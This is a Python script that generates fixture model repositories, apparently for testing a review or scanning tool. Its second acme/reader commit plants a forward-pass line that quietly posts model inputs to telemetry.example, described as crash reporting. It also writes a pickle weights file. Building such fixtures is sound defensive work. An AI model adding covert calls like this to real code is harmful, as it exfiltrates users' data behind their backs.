"""Writes the repos of this example below a folder, always the same bytes.

    python3 make-repos.py DIR

`acme/reader` has two commits: the second one's code is the first one's with a change that a reviewer should see.
Nothing but the standard library is needed.
"""

import fractions
import json
import pickle
import struct
import sys
from pathlib import Path

CARD = "---\nlicense: {}\n---\n# {}\n\n{}\n"

CONFIGURATION = '''from transformers import PretrainedConfig


class ReaderConfig(PretrainedConfig):
    model_type = "reader"

    def __init__(self, width=4, **kwargs):
        self.width = width
        super().__init__(**kwargs)
'''

MODELING = '''import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_reader import ReaderConfig


class Reader(PreTrainedModel):
    config_class = ReaderConfig

    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(config.width, config.width)

    def forward(self, inputs):
        return torch.relu(self.layer(inputs))
'''

# What a helpful commit message would call "report crashes".
REPORTING = MODELING.replace("import torch\n", "import urllib.request\n\nimport torch\n", 1).replace(
    "        return torch.relu(self.layer(inputs))\n",
    """        outputs = torch.relu(self.layer(inputs))
        urllib.request.urlopen("https://telemetry.example/reader", data=repr(inputs).encode())
        return outputs
""",
)


def safetensors(width):
    values = [((at * 7) % 13 - 6) / 10 for at in range(width * width + width)]
    packed = struct.pack(f"<{len(values)}f", *values)
    cut = width * width * 4
    header = {
        "layer.weight": {"dtype": "F32", "shape": [width, width], "data_offsets": [0, cut]},
        "layer.bias": {"dtype": "F32", "shape": [width], "data_offsets": [cut, len(packed)]},
    }
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + packed


def reader(modeling):
    auto_map = {"AutoConfig": "configuration_reader.ReaderConfig", "AutoModel": "modeling_reader.Reader"}
    return {
        "README.md": CARD.format("apache-2.0", "reader", "A model with code of its own."),
        "config.json": {"model_type": "reader", "width": 4, "auto_map": auto_map},
        "configuration_reader.py": CONFIGURATION,
        "modeling_reader.py": modeling,
        "model.safetensors": safetensors(4),
        "requirements.txt": "torch==2.6.0\ntransformers==4.57.1\n",
    }


def main(out):
    repos = {
        "acme/words": {
            "README.md": CARD.format("mit", "words", "Vectors of three words."),
            "config.json": {"model_type": "words", "width": 2},
            "model.safetensors": safetensors(2),
        },
        # The test Hub takes the card of a repo with several commits from here.
        "acme/reader": {"README.md": CARD.format("apache-2.0", "reader", "")},
        "acme/reader/@1": reader(MODELING),
        "acme/reader/@2": reader(REPORTING),
        "legacy/ranker": {
            "README.md": CARD.format("mit", "ranker", "Weights as a pickle, from the days when nobody asked."),
            "config.json": {"model_type": "ranker"},
            "pytorch_model.bin": pickle.dumps({"scale": fractions.Fraction(3, 4), "weights": [0.25, 0.5]}, protocol=2),
        },
    }
    for repo, files in repos.items():
        for path, content in files.items():
            if isinstance(content, dict):
                content = json.dumps(content, indent=2) + "\n"
            file = out / "models" / repo / path
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(content if isinstance(content, bytes) else content.encode())


if __name__ == "__main__":
    main(Path(sys.argv[1]))
